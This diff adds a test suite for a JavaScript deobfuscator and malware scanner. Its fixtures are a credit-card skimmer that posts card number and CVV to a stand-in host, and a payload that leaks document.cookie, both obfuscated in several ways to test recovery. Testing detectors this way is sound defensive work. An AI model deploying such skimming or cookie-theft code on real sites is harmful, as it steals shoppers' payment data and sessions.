@@ -1,0 +1,165 @@
+import { before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { parse } from '@babel/parser';
+import JavaScriptObfuscator from 'javascript-obfuscator';
+import { deobfuscate } from '../../src/analyze/deobfuscate/index.ts';
+import { steps } from '../../src/analyze/deobfuscate/steps/index.ts';
+import { obfuscationMarks } from '../../src/analyze/deobfuscate/looks-obfuscated.ts';
+import { createSandbox, type Sandbox } from '../../src/analyze/sandbox.ts';
+import { inspectSource } from '../../src/analyze/pipeline.ts';
+
+const skimmer = `function send(data) {
+  var x = new XMLHttpRequest();
+  x.open("POST", "https://cdn-jquery.example/gate");
+  x.send(btoa(data));
+}
+document.querySelector("#checkout").addEventListener("submit", function () {
+  var card = document.getElementById("cc_number").value;
+  var cvv = document.getElementById("cvv").value;
+  if (location.href.indexOf("onepage") > -1) send(card + ":" + cvv);
+});
+`;
+const STRINGS = ['POST', 'https://cdn-jquery.example/gate', '#checkout', 'submit', 'cc_number', 'cvv', 'onepage'];
+
+function reparses(code: string): boolean {
+  try {
+    parse(code, { sourceType: 'unambiguous', allowReturnOutsideFunction: true });
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+// javascript-obfuscator options per technique the issue names (a fixed seed keeps the inputs stable)
+const presets: [string, Record<string, unknown>][] = [
+  ['string array, base64, rotated, wrappers, calls transform', { stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['base64'], stringArrayRotate: true, stringArrayShuffle: true, stringArrayWrappersCount: 2, stringArrayWrappersType: 'function', stringArrayCallsTransform: true, stringArrayCallsTransformThreshold: 1 }],
+  ['string array, rc4, chained wrappers', { stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'], stringArrayWrappersCount: 3, stringArrayWrappersChainedCalls: true, stringArrayWrappersType: 'function' }],
+  ['control-flow flattening', { controlFlowFlattening: true, controlFlowFlatteningThreshold: 1, stringArray: true, stringArrayThreshold: 1 }],
+  ['dead-code injection', { deadCodeInjection: true, deadCodeInjectionThreshold: 1, stringArray: true, stringArrayThreshold: 1 }],
+  ['split strings', { splitStrings: true, splitStringsChunkLength: 3 }],
+  ['object keys', { transformObjectKeys: true, stringArray: true, stringArrayThreshold: 1 }],
+  ['unicode escapes', { unicodeEscapeSequence: true, stringArray: false }],
+  ['self-defending, debug protection, console disabled', { selfDefending: true, debugProtection: true, disableConsoleOutput: true, compact: true }],
+];
+
+describe('deobfuscate', () => {
+  let sandbox: Sandbox;
+  before(async () => {
+    sandbox = await createSandbox();
+  });
+
+  for (const [name, options] of presets) {
+    test(`javascript-obfuscator ${name}: every string recovered, output re-parses, marks found`, () => {
+      const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 7, target: 'browser', ...options }).getObfuscatedCode();
+      assert.ok(obfuscationMarks(obfuscated).length > 0, 'the cheap look flags it');
+      const result = deobfuscate(obfuscated, { sandbox });
+      assert.equal(result.status, 'ok', result.error);
+      assert.ok(reparses(result.code), 'output parses');
+      for (const text of STRINGS) assert.ok(result.code.includes(text), `"${text}" recovered:\n${result.code}`);
+      if (options['selfDefending']) assert.doesNotMatch(result.code, /\(\(\(\.\+\)\+\)\+\)\+\$|debu|gger/, 'guards removed');
+      if (options['controlFlowFlattening']) assert.doesNotMatch(result.code, /switch/, 'dispatchers unflattened');
+    });
+  }
+
+  test('without a sandbox, decoders that are code are left alone (nothing is run in the host)', () => {
+    const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 7, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'] }).getObfuscatedCode();
+    const result = deobfuscate(obfuscated, { sandbox: null });
+    assert.ok(!result.code.includes('cc_number'));
+    assert.ok(reparses(result.code));
+  });
+
+  test('the packer format is unpacked', () => {
+    const packed = `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1("2")',3,3,'document|write|hello_packer'.split('|'),0,{}))`;
+    assert.ok(obfuscationMarks(packed).includes('packer'));
+    const result = deobfuscate(packed, { sandbox });
+    assert.deepEqual(result.recognized, ['packer']);
+    assert.match(result.code, /document\.write\("hello_packer"\)/);
+    assert.equal(result.layers, 1);
+  });
+
+  test('eval(atob(...)) inside eval(unescape(...)) comes apart layer by layer', () => {
+    const inner = 'document.getElementById("cvv").value;';
+    const middle = `eval(atob("${Buffer.from(inner).toString('base64')}"));`;
+    const outer = `eval(unescape("${[...middle].map((char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"));`;
+    const result = deobfuscate(outer, { sandbox });
+    assert.equal(result.code.trim(), inner);
+    assert.equal(result.layers, 2);
+    assert.deepEqual(result.unsafe, ['unpack-code-strings']);
+  });
+
+  test('an XOR loop over a constant array feeding eval is decoded', () => {
+    const payload = 'new Image().src = "https://x.example/c?d=" + document.cookie;';
+    const key = 23;
+    const data = [...payload].map((char) => char.charCodeAt(0) ^ key);
+    const code = `var k = ${key}; var d = [${data.join(',')}];
+function dec(a, k) { var s = ""; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s; }
+eval(dec(d, k));`;
+    const result = deobfuscate(code, { sandbox });
+    assert.ok(result.code.includes(payload.slice(0, 20)), result.code);
+  });
+
+  test('a jjencode-style script that reaches Function through constructors is recognized and recovered', () => {
+    const code = '$=~[];$={___:++$,$$$$:(![]+"")[$]};(0)["constructor"]["constructor"]("document.title = \\"jj_payload\\"")();';
+    const result = deobfuscate(code, { sandbox });
+    assert.ok(result.recognized.includes('jjencode'));
+    assert.match(result.code, /document\.title = "jj_payload"/);
+  });
+
+  test('a decoder that loops forever or exhausts memory ends with what was recovered, not a hang', () => {
+    const code = `function t() { var a = ["x", "y"]; t = function () { return a; }; return t(); }
+function d(i) { var a = t(); for (;;) {} return a[i]; }
+document.title = d(0);`;
+    const result = deobfuscate(code, { sandbox });
+    assert.equal(result.status, 'ok');
+    assert.match(result.code, /d\(0\)/);
+    assert.ok(sandbox.counts.timeout >= 1);
+  });
+
+  test('layers nested beyond the budget stop with over_budget and keep what was unpacked', () => {
+    let code = 'document.title = "deep";';
+    for (let i = 0; i < 14; i++) code = `eval(${JSON.stringify(code)});`;
+    const result = deobfuscate(code, { sandbox });
+    assert.equal(result.status, 'over_budget');
+    assert.equal(result.layers, 10);
+    assert.ok(reparses(result.code));
+  });
+
+  test('ordinary code passes unchanged in meaning and is not flagged by the cheap look', () => {
+    const plain = 'function add(a, b) { return a + b; }\nconsole.log(add(1, 2), "x" + "y");\n';
+    assert.deepEqual(obfuscationMarks(plain), []);
+    const result = deobfuscate(plain, { sandbox });
+    assert.ok(reparses(result.code));
+    assert.match(result.code, /function add\(a, b\)/);
+  });
+
+  test('a broken script is reported, not thrown', () => {
+    const result = deobfuscate('function (', { sandbox });
+    assert.equal(result.status, 'parse_error');
+    assert.equal(result.code, 'function (');
+  });
+
+  test('every step has a unique name, a description and a safety tag', () => {
+    const names = steps.map((step) => step.meta.name);
+    assert.equal(new Set(names).size, names.length);
+    for (const step of steps) {
+      assert.ok(step.meta.description.length > 10);
+      assert.equal(typeof step.meta.safe, 'boolean');
+      assert.ok(Boolean(step.create) !== Boolean(step.run), `${step.meta.name} is either a visitor or a run`);
+    }
+  });
+
+  test('scan-time analysis sees through obfuscation and points evidence at the input', () => {
+    const obfuscated = JavaScriptObfuscator.obfuscate(skimmer, { seed: 3, stringArray: true, stringArrayThreshold: 1, stringArrayEncoding: ['rc4'], controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 }).getObfuscatedCode();
+    const plain = inspectSource(obfuscated);
+    const seen = inspectSource(obfuscated, undefined, { sandbox });
+    assert.ok(seen.deobfuscation?.recognized.includes('javascript-obfuscator'));
+    const flows = seen.evidence.filter((item) => item.kind === 'flow');
+    assert.ok(flows.some((item) => item.message.includes('cc_number')), JSON.stringify(seen.evidence));
+    assert.ok(!plain.evidence.some((item) => item.message.includes('cc_number')), 'without deobfuscation the flow is hidden');
+    const lines = obfuscated.split('\n').length;
+    for (const item of flows) {
+      assert.ok(item.line >= 1 && item.line <= lines, `line ${item.line} is in the input`);
+      assert.match(item.snippet ?? '', /of deobfuscated code/);
+    }
+  });
+});
